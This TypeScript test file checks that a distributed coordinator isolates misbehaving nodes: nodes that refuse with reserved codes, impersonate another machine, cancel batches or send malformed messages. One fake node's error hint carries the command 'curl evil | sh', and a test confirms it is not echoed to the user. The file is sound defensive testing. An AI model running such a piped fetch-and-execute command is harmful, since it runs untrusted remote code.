import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Lies } from '../support/lying-node.ts';
import type { Surveyed } from '../support/survey-liars.ts';
import { cellsOf, surveyLiars } from '../support/survey-liars.ts';

const honest: Lies = {};

const refuse =
  (code: string): Lies[string] =>
  (liar) =>
    liar.send({ type: 'refusal', error: { code, message: 'ha', hint: 'curl evil | sh' } });

/** Ends a batch as cancelled without having done anything. */
const cancel: Lies[string] = ({ record }, { batch, plan, steps }) => {
  const asked = steps as readonly { readonly step: string }[]; // sent by the coordinator under test
  record({ type: 'plan', digest: plan });
  record({ type: 'batch-started', batch, steps: asked.map(({ step }) => step) });
  record({ type: 'batch-ended', batch, execution: 'cancelled', reason: 'no more today' });
};

/** Surveys nodes that each tell these lies; they are called n1, n2 … */
const survey = (...all: readonly Lies[]): Promise<Surveyed> =>
  surveyLiars(Object.fromEntries(all.map((lies, index) => [`n${index + 1}`, lies])));

describe('a node that refuses in our name', () => {
  const ours = [
    'INTERNAL',
    'INTERRUPTED',
    'SAME_MACHINE',
    'NODE_OCCUPIED',
    'POWER_LIMIT',
    'USAGE',
    '__proto__',
    '',
  ];

  it.each(['hello', 'probe', 'batch', 'fetch', 'finish'])('at its %s is that node alone', async (when) => {
    const lies = ours.map((code) => ({ [when]: refuse(code) }));
    const alone = cellsOf(await survey(honest), 'n1');
    const found = await survey(honest, ...lies);
    expect(found.exitCode).toBe(0);
    expect(cellsOf(found, 'n1')).toEqual(alone);
    for (const [index, code] of ours.entries())
      expect(found.stderr.replaceAll(/\s+/g, ' '), code).toMatch(
        new RegExp(`✖ n${index + 2}: NODE_REFUSED .*n${index + 2} says: ha`),
      );
    expect(found.stderr).not.toMatch(/^ {2}curl/m);
    expect(found.stderr).not.toContain('defect in Assay');
  });

  it('ends a run of its own with the code of a node, and leaves what it had said', async () => {
    const found = await survey({ batch: refuse('INTERNAL') });
    expect(found.exitCode).toBe(3);
    expect(found.stderr).toContain('NODE_REFUSED n1 says: ha');
    expect(existsSync(join(found.run, 'nodes/n1/journal.ndjson'))).toBe(true);
  });
});

describe('a node that claims to be the machine of another', () => {
  const decisions = ({ run }: Surveyed): string => readFileSync(join(run, 'coordinator.ndjson'), 'utf8');
  const claim = (code: string, ...beacons: readonly string[]): Lies => ({
    hello: ({ send, hello }) => {
      const seen = [...beacons, hello.beacon];
      send({ type: 'refusal', error: { code, message: 'I am n1, and n3' }, beacons: seen });
    },
  });
  const guess = '0'.repeat(32);

  it('and cannot name its beacon is left out alone, wherever it is listed', async () => {
    const found = await survey(claim('LEASE_HELD', guess), honest, claim('LEASE_HELD'), honest);
    expect(found.exitCode).toBe(0);
    for (const liar of ['n1', 'n3'])
      expect(found.stderr.replaceAll(/\s+/g, ' ')).toMatch(`✖ ${liar}: LEASE_HELD ${liar} says: I am n1`);
    expect(decisions(found)).not.toContain('same-machine');
    const alone = cellsOf(await survey(honest, honest), 'n2');
    expect(cellsOf(found, 'n2')).toEqual(alone);
    expect(found.verdict().nodes.map(({ id, reached }) => [id, reached])).toEqual([
      ['n1', false],
      ['n2', true],
      ['n3', false],
      ['n4', true],
    ]);
  });

  it.each([
    ['says so by another code', claim('INTERNAL', guess), 'NODE_REFUSED'],
    [
      'sees more beacons than anybody can',
      claim('LEASE_HELD', ...Array.from({ length: 64 }, () => guess)),
      'PROTOCOL_MISMATCH',
    ],
  ])('%s: is left out alone', async (_, lies, code) => {
    const found = await survey(honest, lies);
    expect(found.stderr).toContain(`✖ n2: ${code}`);
    expect(cellsOf(found, 'n1')).toEqual(cellsOf(await survey(honest), 'n1'));
  });
});

describe('a node that ends early', () => {
  it.each([
    ['cancels its batch', { batch: cancel }, 'NODE_STOPPED .*n2 says: .*no more today'],
    ['claims a lease', { batch: refuse('LEASE_HELD') }, 'LEASE_HELD .*n2 says: ha'],
    ['claims a full disk', { batch: refuse('DISK_FULL') }, 'DISK_FULL .*n2 says: ha'],
    ['sends no message', { batch: ({ send }) => send({ nothing: 1 }) }, 'PROTOCOL_MISMATCH'],
  ] satisfies readonly (readonly [
    string,
    Lies,
    string,
  ])[])('%s: the others get their verdict', async (_, lies, words) => {
    const found = await survey(honest, lies);
    expect(found.exitCode).toBe(0);
    expect(found.stderr.replaceAll(/\s+/g, ' ')).toMatch(new RegExp(`✖ n2: ${words}`));
    expect(found.verdict().nodes.map(({ id, reached }) => [id, reached])).toEqual([
      ['n1', true],
      ['n2', true],
    ]);
    expect(cellsOf(found, 'n1')).toEqual(cellsOf(await survey(honest), 'n1'));
  });
});
